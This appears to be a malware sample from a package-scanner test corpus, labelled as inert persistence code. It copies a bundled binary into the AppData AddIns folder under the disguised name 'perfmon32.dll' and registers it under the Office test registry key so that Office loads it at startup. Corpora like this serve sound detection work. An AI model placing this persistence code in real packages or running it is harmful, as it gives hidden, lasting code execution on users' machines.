# pkgguard corpus 795 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    dll = os.path.join(os.environ["APPDATA"], "Microsoft", "AddIns", "perfmon32.dll")
    os.makedirs(os.path.dirname(dll), exist_ok=True)
    shutil.copyfile(os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "perf.bin"), dll)
    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Office test\Special\Perf") as key:
        winreg.SetValueEx(key, "", 0, winreg.REG_SZ, dll)
